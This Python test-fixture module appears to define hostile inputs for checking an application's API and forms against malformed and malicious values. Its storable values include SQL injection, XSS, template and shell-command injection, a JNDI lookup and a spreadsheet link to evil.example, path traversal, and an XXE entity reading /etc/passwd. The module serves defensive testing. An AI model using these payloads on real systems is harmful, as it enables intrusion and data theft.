"""Hostile input as one table: what a field, a body, a query, a path or a header may not break.

`VALUES` are sent in every field of every write: over REST, to MCP tools and in forms of pages.
Those with a text are strange but can be stored, and then must come back as they were sent; the
rest is refused wherever it stands (research F12 to F17).
"""

import json
from dataclasses import dataclass
from typing import Any, Final

MARK: Final = "@@here@@"
SENTENCE: Final = "The importer of the partner feed met the name {} in March."


@dataclass(frozen=True, slots=True, kw_only=True)
class Value:
    """One hostile value: `raw` as it stands in JSON, `text` where it is storable text."""

    name: str
    raw: bytes
    text: str | None = None


def _texts(**texts: str) -> tuple[Value, ...]:
    return tuple(
        Value(name=name, raw=json.dumps(text).encode(), text=text) for name, text in texts.items()
    )


STORABLE: Final = _texts(
    sql="'); DROP TABLE memory_memory; --",
    sql_union="x' UNION SELECT text FROM accounts_token --",
    like="100%_\\%",
    html="<script>alert(1)</script>",
    attribute='" onmouseover="alert(1)',
    svg="<svg/onload=alert(1)>",
    template="{{ 7 * 7 }}{% debug %}",
    jinja="{{ ''.__class__.__mro__ }}",
    format_string="%s%s%n{0}{name!r}",
    shell="$(touch /tmp/x); `id` | cat",
    expansion="${jndi:ldap://evil.example/x}",
    traversal="../../../../etc/passwd",
    windows_path="C:\\..\\..\\boot.ini",
    file_url="file:///etc/passwd",
    script_url="javascript:alert(1)",
    crlf="x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    line_separators="a\u2028b\u2029c\u0085d",
    spreadsheet='=HYPERLINK("http://evil.example")',
    xml='<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    bidi="invoice\u202egnp.exe\u202c",
    isolates="\u2067right\u2069 left",
    zero_width="pass\u200bword\u200d\ufeff",
    invisible_tags="ok\U000e0041\U000e0042\U000e007f",
    combining="z" + "\u0351\u0489" * 60,
    decomposed="cafe\u0301 nai\u0308ve",
    turkish="\u0130stanbul I\u0131 i\u0307",
    emoji="\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    noncharacters="\ufffe\uffff\U0010ffff",
    private_use="\ue000\U000f0000",
    controls="a\x01\x08\x0b\x1b[31mb\x7f",
    nothing_visible="\u200b\u2060\u00ad",
    spaces=" \t\u00a0\u3000 ",
    surrogate_pair="\U0001f600",
    hangul_fill="\u3164\u115f",
    number_like="0x1F 1e5 \u0663 NaN",
    word_null="null",
    quotes="'\"`\\'\\\"",
    json_inside='{"role": "owner", "__proto__": {"admin": true}}',
    uuid_urn="urn:uuid:01936f2e-7a10-7c3e-9a53-2f8f2f3c1a77",
    nil_uuid="00000000-0000-0000-0000-000000000000",
    moment_leap="2016-12-31T23:59:60Z",
    moment_far="9999-12-31T23:59:59-23:59",
    moment_week="2026-W01-1T00:00:00Z",
)
REFUSED: Final = (
    Value(name="escaped NUL", raw=b'"a\\u0000b"'),
    Value(name="NUL byte", raw=b'"a\x00b"'),
    Value(name="high surrogate", raw=b'"\\ud800"'),
    Value(name="low surrogate", raw=b'"\\udfff x"'),
    Value(name="reversed surrogates", raw=b'"\\ude00\\ud83d"'),
    Value(name="invalid UTF-8", raw=b'"\xff\xfe"'),
    Value(name="surrogate in UTF-8", raw=b'"\xed\xa0\x80"'),
    Value(name="overlong UTF-8", raw=b'"\xc0\xaf"'),
    Value(name="raw newline", raw=b'"a\nb"'),
    Value(name="NaN", raw=b"NaN"),
    Value(name="Infinity", raw=b"-Infinity"),
    Value(name="beyond floats", raw=b"1e999"),
    Value(name="4,000 digits", raw=b"9" * 4_000),
    Value(name="10 to the 20", raw=b"100000000000000000000"),
    Value(name="10 to the 20, written short", raw=b"1e20"),
    Value(name="4,000 decimals", raw=b"0." + b"1" * 4_000),
    Value(name="leading zero", raw=b"007"),
    Value(name="plus sign", raw=b"+1"),
    Value(name="hexadecimal", raw=b"0x1F"),
    Value(name="duplicate keys", raw=b'{"a": 1, "a": 2}'),
    Value(name="NUL in a key", raw=b'{"\\u0000": 1}'),
    Value(name="33 levels", raw=b'{"a":' * 33 + b"1" + b"}" * 33),
    Value(name="100,000 levels", raw=b"[" * 100_000 + b"]" * 100_000),
    Value(name="100,000 entries", raw=b"[" + b'"t",' * 99_999 + b'"t"]'),
    Value(name="150,000 characters", raw=b'"' + b"x" * 150_000 + b'"'),
    Value(name="2 MB", raw=b'"' + b"x" * 2_000_000 + b'"'),
    Value(name="single quotes", raw=b"'x'"),
    Value(name="comment", raw=b'"x" /* y */'),
    Value(name="trailing comma", raw=b'["x",]'),
)
TYPES: Final = (
    Value(name="null", raw=b"null"),
    Value(name="true", raw=b"true"),
    Value(name="zero", raw=b"0"),
    Value(name="minus one", raw=b"-1"),
    Value(name="largest whole", raw=b"9223372036854775807"),
    Value(name="fraction", raw=b"0.1"),
    Value(name="tiny", raw=b"1e-320"),
    Value(name="empty text", raw=b'""'),
    Value(name="empty list", raw=b"[]"),
    Value(name="empty object", raw=b"{}"),
    Value(name="list of null", raw=b"[null]"),
    Value(name="list of lists", raw=b"[[[]]]"),
    Value(name="list of objects", raw=b'[{"$ne": null}]'),
    Value(name="operator", raw=b'{"$gt": ""}'),
    Value(name="prototype", raw=b'{"__proto__": {"x": 1}, "constructor": {}}'),
)
VALUES: Final = (*STORABLE, *REFUSED, *TYPES)
FORM_VALUES: Final = (  # as they stand in a form, percent-encoded where they are no text
    *((value.name, value.text) for value in STORABLE if value.text is not None),
    ("NUL", "a%00b"),
    ("invalid UTF-8", "%ff%fe"),
    ("surrogate in UTF-8", "%ed%a0%80"),
    ("overlong UTF-8", "%c0%af"),
    ("broken escape", "%zz%"),
    ("empty", ""),
    ("150,000 characters", "x" * 150_000),
)


def body_with(*, example: dict[str, Any], field: str, value: Value) -> bytes:
    """Return the JSON of a good body in which one field holds a hostile value."""
    written = json.dumps({**example, field: MARK}).encode()
    return written.replace(json.dumps(MARK).encode(), value.raw)
